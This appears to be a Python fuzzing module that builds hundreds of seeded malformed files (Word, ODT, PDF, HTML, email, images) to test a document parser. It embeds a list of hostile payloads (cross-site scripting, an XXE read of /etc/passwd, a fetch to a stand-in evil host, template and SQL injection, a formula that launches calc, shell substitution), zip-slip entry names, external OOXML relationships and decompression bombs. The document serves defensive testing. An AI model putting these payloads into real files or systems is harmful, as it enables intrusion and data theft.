"""Hostile files by the hundred: what lies about itself, one lie for each seed. The same seed is the same file.

Bases are sound files of every kind; a lie is a change somebody could make on purpose: to bytes, to a zip's
directory, to a part of XML in it, to a picture's metadata, or two kinds of file in one.
"""

# ruff: noqa: S311 (the same every time is what is wanted)

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from email.message import EmailMessage

from PIL import Image
from wordfiles import docx, picture

from hostile.files import EVIL, LEAD, PAGE, SECRET, TEXT, WORDS, odt_of, zip_of

Lie = Callable[[bytes, random.Random], bytes]

CANARY = "zq-canary-of-the-host"


def photo(kind: str, size: tuple[int, int] = (1300, 90)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (90, 40, 10)).save(out, kind)
    return out.getvalue()


def mail() -> bytes:
    message = EmailMessage()
    message["Subject"] = "Ferry Crews Vote for Night Boats"
    message["From"] = "press@ferry.example"
    message.set_content(TEXT)
    message.add_alternative(PAGE, subtype="html")
    message.add_attachment(photo("PNG"), maintype="image", subtype="png", filename="../../boat.png")
    return message.as_bytes()


PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>endobj\n"
    b"4 0 obj<</Length 60>>stream\nBT /F 20 Tf 50 700 Td (Ferry Crews Vote for Night Boats) Tj ET\nendstream endobj\n"
    b"5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
)  # fmt: skip


def bases() -> dict[str, bytes]:
    """A sound file of each kind."""
    return {
        ".docx": _word(),
        ".odt": odt_of("<text:p>And more.</text:p>"),
        ".rtf": ("{\\rtf1\\ansi Ferry Crews Vote\\par " + LEAD + "}").encode(),
        ".html": PAGE.encode(),
        ".md": f"# Ferry Crews Vote\n\n{LEAD}\n\n[more](https://ferry.example)\n".encode(),
        ".txt": TEXT.encode(),
        ".eml": mail(),
        ".pdf": PDF,
    }  # fmt: skip


def _word() -> bytes:
    media = {"word/media/image1.png": photo("PNG")}
    return docx(
        *WORDS, picture("r9"), parts=dict(media), relations={"r9": ("image", "media/image1.png", False)}
    )


# ---- lies about bytes ----


def flipped(data: bytes, chance: random.Random) -> bytes:
    changed = bytearray(data)
    for _ in range(chance.randint(1, 40)):
        changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
    return bytes(changed)


def cut(data: bytes, chance: random.Random) -> bytes:
    return data[: chance.randrange(1, len(data))]


def again(data: bytes, chance: random.Random) -> bytes:
    start = chance.randrange(len(data))
    return (
        data[:start] + data[start : start + chance.randint(1, 4000)] * chance.randint(2, 300) + data[start:]
    )


def huge_numbers(data: bytes, chance: random.Random) -> bytes:
    """Four bytes somewhere become a length nobody has."""
    at = chance.randrange(max(1, len(data) - 4))
    return data[:at] + chance.choice((b"\xff" * 4, b"\x7f\xff\xff\xff", b"\0" * 4)) + data[at + 4 :]


def controls(data: bytes, chance: random.Random) -> bytes:
    at = chance.randrange(len(data))
    signs = ("\u202e", "\u2066", "\0", "\x1b[31m", "\r\n\r\n", "\ufeff", "\ud7ff", "﷐", "\u0600" * 50)
    return (
        data[:at] + chance.choice(signs).encode("utf-8", "surrogatepass") * chance.randint(1, 30) + data[at:]
    )


SPITE = (
    "<script>fetch('http://evil.example/x')</script>", '<img src=x onerror="steal()">', "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<svg><style>@import'file:///etc/passwd'</style></svg>", '<a href="&#x6a;avascript:steal()">x</a>', "{{ 7*7 }}{% include '/etc/passwd' %}",
    '<iframe srcdoc="<script>1</script>">', "<base href=http://evil.example/x>", '<meta http-equiv=refresh content="0;url=http://evil.example/x">', "<math><mtext><table><mglyph><style><!--</style>",
    '<link rel=stylesheet href="file:///etc/passwd">', "![x](file:///etc/passwd)", "\\input{/etc/passwd}", "=cmd|' /C calc'!A0", "](javascript:alert(1))",
    "<?xml-stylesheet href='file:///etc/passwd'?>", "%n%n%s", "$(id)`id`", "' OR 1=1--", "<![CDATA[" * 30,
)  # fmt: skip


def spite(data: bytes, chance: random.Random) -> bytes:
    words = chance.choice(SPITE).encode() * chance.choice((1, 1, 300))
    at = data.find(b"<p>") + 3 if b"<p>" in data else chance.randrange(len(data))
    return data[:at] + words + data[at:]


# ---- lies in a zip ----


def parts(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(name, archive.read(name)) for name in archive.namelist()]


def _in_parts(lie: Lie) -> Lie:
    def changed(data: bytes, chance: random.Random) -> bytes:
        found = parts(data)
        at = chance.randrange(len(found))
        found[at] = (found[at][0], lie(found[at][1] or b"x", chance))
        return zip_of(found)

    return changed


RELATED = (
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}" TargetMode="External"/></Relationships>'
)
KINDS = ("image", "hyperlink", "attachedTemplate", "oleObject", "aFChunk", "frame", "subDocument", "settings")
TARGETS = ("file:///etc/passwd", "file://///evil.example/share", EVIL, "/etc/passwd", "../../../../etc/passwd",
           "\\\\evil.example\\share", "data:text/html,<script>1</script>", "word/document.xml")  # fmt: skip


def related(data: bytes, chance: random.Random) -> bytes:
    """A relationship leads out of the file, or back into it."""
    row = RELATED.format(kind=chance.choice(KINDS), target=chance.choice(TARGETS)).encode()
    found = [
        (name, body.replace(b"</Relationships>", row) if name.endswith(".rels") else body)
        for name, body in parts(data)
    ]
    return zip_of(found)


NAMES = ("../../../../tmp/evil", "/etc/cron.d/evil", "C:\\evil", "word/document.xml", "word\\document.xml", "a" * 60_000,
         "word/vbaProject.bin", "word/embeddings/oleObject1.bin", "..", "con", "w\0rd/document.xml", "word/\u202egpj.exe")  # fmt: skip


def more_parts(data: bytes, chance: random.Random) -> bytes:
    inner = chance.choice(
        (b"MZ" + SECRET.encode(), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), data, bytes(3 << 20))
    )
    return zip_of([*parts(data), (chance.choice(NAMES), inner)])  # fmt: skip


def directory(data: bytes, chance: random.Random) -> bytes:
    """The directory at the end says other things than what it lists."""
    at = data.rfind(b"PK\x01\x02")
    place = at + chance.choice((6, 8, 10, 16, 20, 24, 28, 30, 32, 42))
    return data[:place] + struct.pack("<H", chance.choice((0, 1, 99, 0xFFFF))) + data[place + 2 :]


def nested(data: bytes, chance: random.Random) -> bytes:
    for _ in range(chance.randint(2, 60)):
        data = zip_of([("word/document.xml", data), ("[Content_Types].xml", b"<a/>")])
    return data


ZIP_LIES = (
    _in_parts(flipped), _in_parts(cut), _in_parts(again), _in_parts(spite), _in_parts(controls),
    related, more_parts, directory, nested,
)  # fmt: skip
BYTE_LIES = (flipped, cut, again, huge_numbers, controls, spite)


# ---- two in one, and pictures that lie ----


def polyglots() -> dict[str, bytes]:
    """Each kind of file behind the beginning of another, under the second one's name and the first one's."""
    heads = {
        "mz": b"MZ" + bytes(62),
        "gif": b"GIF89a/*",
        "html": PAGE.encode(),
        "pdf": PDF + b"\n",
        "jpeg": photo("JPEG"),
    }
    made = {}
    for head, first in heads.items():
        for kind, second in bases().items():
            made[f"{head}-before{kind}"] = first + second
    for kind, second in bases().items():
        made[f"{kind[1:]}-before-zip{kind}"] = second + zip_of([("x", SECRET.encode())])
    return made  # fmt: skip


def chunk_of(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


EXIFS = (
    b"Exif\0\0II*\0\x08\0\0\0" + b"\xff" * 200, b"MM\0*\0\0\0\x08" + struct.pack(">H", 65535) + bytes(4000),
    b"II*\0\x08\0\0\0" + struct.pack("<HHHII", 1, 0x8769, 4, 1, 8), b"Exif\0\0" * 20_000, b"", b"MM\0*\xff\xff\xff\xff",
)  # fmt: skip


def pictures() -> Iterator[tuple[str, bytes]]:
    """A page with one picture that lies, in the page itself."""
    from base64 import b64encode

    png, jpeg = photo("PNG"), photo("JPEG")
    lying = [png[:33] + chunk_of(b"eXIf", exif) + png[33:] for exif in EXIFS]
    lying += [
        jpeg[:2] + b"\xff\xe1" + struct.pack(">H", min(65535, len(exif) + 2)) + exif[:65533] + jpeg[2:]
        for exif in EXIFS
    ]
    lying += [
        png[:16] + struct.pack(">II", *size) + png[24:] for size in ((1, 1 << 31), (0, 0), (60_000, 60_000))
    ]
    lying += [
        png[:33] + chunk_of(b"zTXt", b"x\0\0" + zlib.compress(bytes(30 << 20))) + png[33:],
        photo("GIF")[:40],
        jpeg[:-200],
    ]
    for number, data in enumerate(lying):
        for kind in ("png", "jpeg"):
            page = PAGE + f'<img alt="boat" src="data:image/{kind};base64,{b64encode(data).decode()}">'
            yield f"picture-{number}-as-{kind}.html", page.encode()  # fmt: skip


def files(seeds: int) -> dict[str, bytes]:
    """All of them: for each kind and each lie that fits it, `seeds` files; then what needs no chance."""
    made: dict[str, bytes] = {}
    for kind, data in bases().items():
        lies: tuple[Lie, ...] = BYTE_LIES + (ZIP_LIES if kind in (".docx", ".odt") else ())
        for number, lie in enumerate(lies):
            for seed in range(seeds):
                chance = random.Random(f"{kind} {number} {seed}")
                made[f"{number}-{seed}{kind}"] = lie(data, chance)
    return {**made, **polyglots(), **dict(pictures())}
